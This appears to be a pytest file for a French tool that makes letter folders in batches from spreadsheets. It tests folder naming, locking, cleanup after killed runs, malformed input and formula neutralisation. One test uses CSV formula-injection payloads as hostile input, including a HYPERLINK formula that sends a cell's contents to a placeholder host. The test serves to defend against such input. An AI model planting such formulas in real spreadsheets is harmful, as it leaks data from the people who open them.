"""``lettres lot`` against hostile or unlucky spreadsheets: every row gets its own folder, two batches
never share an output folder, a killed batch leaves neither workers nor personal data behind, and the
report never runs a formula in Excel."""

from __future__ import annotations

import csv
import io
import os
import signal
import sys
import time
from pathlib import Path

import pytest

from aides import COLUMNS, batch, folders, many_rows, report, row, start_batch, wait_for_folders, write_csv


def test_ids_decide_the_folder_not_their_slug(tmp_path):
    rows = [row("a b"), row("a-b"), row("A1"), row("a1"), row("Иван", nom="ИВАНОВ"), row("Пётр", nom="ПЕТРОВ")]
    source = write_csv(tmp_path / "cas.csv", rows)
    bilan = batch(tmp_path, source)
    assert (bilan.generes, bilan.deja_faits, bilan.rejets) == (6, 0, [])
    noms = folders(tmp_path)
    assert len({n.casefold() for n in noms}) == 6  # distinct even where file names ignore case
    assert "2026-11-27_DIALLO_Aminata_a-b" in noms  # a simple id is the folder's end, as before
    assert sum(n.startswith("2026-11-27_SANS-NOM_Aminata_id-") for n in noms) == 2
    bilan = batch(tmp_path, source)
    assert (bilan.generes, bilan.deja_faits) == (0, 6)  # the rerun recognises each row's folder


def test_report_cells_never_run_as_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://exemple.invalid/?"&B2;"clic")', "+1+1", "@SUM(1)", "-2+3", " =1+1"]
    source = write_csv(tmp_path / "cas.csv", [row(i, naissance="hier") for i in hostile])
    batch(tmp_path, source)
    ids = [line[2] for line in report(tmp_path)[1:]]
    assert ids == ["'" + i.strip() for i in hostile]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for line in report(tmp_path) for cell in line)


def test_csv_template_round_trips_with_quoted_cells(run, tmp_path):
    # a cell written as '=… by a spreadsheet-safe writer is read back without the quote
    source = write_csv(tmp_path / "cas.csv", [row("1", **{"personne.telephone": "'+33 6 12 34 56 78"})])
    bilan = batch(tmp_path, source)
    assert bilan.generes == 1
    eml = next((tmp_path / "sorties").glob("*/1-signalement-dgef.txt")).read_text(encoding="utf-8")
    eml = eml.replace("\u00a0", " ")  # typography: the groups of a number are held by non-breaking spaces
    assert "+33 6 12 34 56 78" in eml and "'+33" not in eml


def test_second_batch_on_the_same_folder_stops_at_once(run, tmp_path):
    from filelock import FileLock

    source = write_csv(tmp_path / "cas.csv", [row("1")])
    sortie = tmp_path / "s"
    sortie.mkdir()
    with FileLock(str(sortie / ".lettres-lot.verrou")):
        code, _, err = run("lot", str(source), "--sortie", str(sortie), "--silencieux")
    assert code == 2 and f"Un autre « lettres lot » écrit déjà dans « {sortie} »" in err
    assert not any(p.is_dir() for p in sortie.iterdir())
    code, _, err = run("lot", str(source), "--sortie", str(sortie), "--silencieux")
    assert code == 0, err


def test_what_a_killed_run_left_is_removed(tmp_path):
    sortie = tmp_path / "sorties"
    sortie.mkdir()
    left = [
        sortie / ".2026-11-27_DIALLO_Aminata_2.abcd1234",
        sortie / ".2026-11-27_DIALLO_Aminata_1.ancien.k2j3h4g5",
        sortie / ".rapport.csv.x8y7z6w5.tmp",
    ]
    left[0].mkdir()
    left[1].mkdir()
    left[2].write_text("feuille;ligne", encoding="utf-8")
    batch(tmp_path, write_csv(tmp_path / "cas.csv", [row("1")]))
    assert not any(p.exists() for p in left)
    assert sorted(p.name for p in sortie.iterdir() if p.name.startswith(".")) == [".lettres-lot.verrou"]


def test_cells_the_csv_module_refuses(run, tmp_path):
    long_cell = write_csv(tmp_path / "long.csv", [row("1", **{"blocage.description": "x" * 131_073})])
    code, out, err = run("lot", str(long_cell), "--sortie", str(tmp_path / "s1"), "--silencieux")
    assert code == 0 and "1 dossier généré" in out, err
    huge = write_csv(tmp_path / "enorme.csv", [row("1", **{"blocage.description": "x" * 1_100_000})])
    code, _, err = run("lot", str(huge), "--sortie", str(tmp_path / "s2"), "--silencieux")
    assert code == 2 and "« enorme.csv » est illisible vers la ligne" in err
    unbalanced = tmp_path / "guillemet.csv"
    unbalanced.write_text(";".join(COLUMNS) + '\n1;madame;"DIALLO;' + "x" * 1_100_000 + "\n", encoding="utf-8")
    code, _, err = run("lot", str(unbalanced), "--sortie", str(tmp_path / "s3"), "--silencieux")
    assert code == 2 and "guillemet non fermé" in err
    nul = tmp_path / "nul.csv"
    nul.write_bytes((";".join(COLUMNS) + "\n1;madame;DI\x00ALLO\n").encode())
    code, _, err = run("lot", str(nul), "--sortie", str(tmp_path / "s4"), "--silencieux")
    assert code == 1 and "Traceback" not in err  # a short row: rejected and explained, the NUL is harmless


@pytest.mark.parametrize(
    ("option", "valeur", "message"),
    [
        ("--separateur", ";;", "Séparateur « ;; » : indiquez un seul caractère"),
        ("--separateur", '"', "indiquez un seul caractère"),
        ("--encodage", "rot13", "Encodage inconnu « rot13 »"),
        ("--encodage", "base64", "Encodage inconnu « base64 »"),
        ("--encodage", "klingon", "Encodage inconnu « klingon »"),
    ],
)
def test_bad_csv_options(run, tmp_path, option, valeur, message):
    source = write_csv(tmp_path / "cas.csv", [row("1")])
    code, _, err = run("lot", str(source), option, valeur, "--sortie", str(tmp_path / "s"))
    assert code == 2 and message in err and "Traceback" not in err


def test_truncated_workbook(run, tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "dossiers"
    sheet.append(COLUMNS)
    for i in range(2000):
        sheet.append([row(str(i)).get(c, "") for c in COLUMNS])
    whole = tmp_path / "entier.xlsx"
    workbook.save(whole)
    for fraction in (0.5, 0.9, 0.99):
        cut = tmp_path / "tronque.xlsx"
        data = whole.read_bytes()
        cut.write_bytes(data[: int(len(data) * fraction)])
        code, _, err = run("lot", str(cut), "--sortie", str(tmp_path / "s"), "--silencieux")
        assert code == 2 and "Traceback" not in err, err
        assert "tronque.xlsx" in err


def children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.append(int(entry.name))
    return found


def alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc to find the workers")
def test_workers_die_with_a_killed_batch(tmp_path):
    run = start_batch(tmp_path, many_rows(tmp_path, 400), pipes=False)
    wait_for_folders(tmp_path, 3)
    workers = children(run.pid)
    assert workers
    run.kill()
    run.communicate()
    limit = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < limit:
        time.sleep(0.1)
    survivors = [w for w in workers if alive(w)]
    for worker in survivors:  # do not leave them running if the test fails
        os.kill(worker, signal.SIGKILL)
    assert not survivors


def test_sigterm_cleans_up_and_exits_143(tmp_path):
    run = start_batch(tmp_path, many_rows(tmp_path, 400))
    wait_for_folders(tmp_path, 3)
    run.send_signal(signal.SIGTERM)
    _, err = run.communicate(timeout=60)
    assert run.returncode == 143, err
    assert "Interrompu : arrêt demandé par le système ; les fichiers temporaires ont été supprimés." in err
    assert "Traceback" not in err
    sortie = tmp_path / "sorties"
    hidden = [p.name for p in sortie.iterdir() if p.name.startswith(".") and p.name != ".lettres-lot.verrou"]
    assert hidden == []  # no staging folder, no temporary file
    # every folder there is complete
    for folder in sortie.iterdir():
        if folder.is_dir() and not folder.name.startswith("."):
            assert len(list(folder.iterdir())) == 4  # dgef .eml/.txt, letter 2 .docx/.eml (no pièce, no bordereau)
    # and the rerun finishes the work, each row exactly once
    rerun = start_batch(tmp_path, tmp_path / "cas.csv")
    _, err = rerun.communicate(timeout=300)
    assert rerun.returncode == 0, err
    assert len([p for p in sortie.iterdir() if p.is_dir() and not p.name.startswith(".")]) == 400


def test_report_is_readable_as_csv(tmp_path):
    source = write_csv(tmp_path / "cas.csv", [row("=1", naissance="hier")])
    batch(tmp_path, source)
    raw = (tmp_path / "sorties" / "rapport.csv").read_bytes().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(raw), delimiter=";"))[1][2] == "'=1"
    assert os.stat(tmp_path / "sorties" / "rapport.csv").st_mode & 0o777 == 0o600
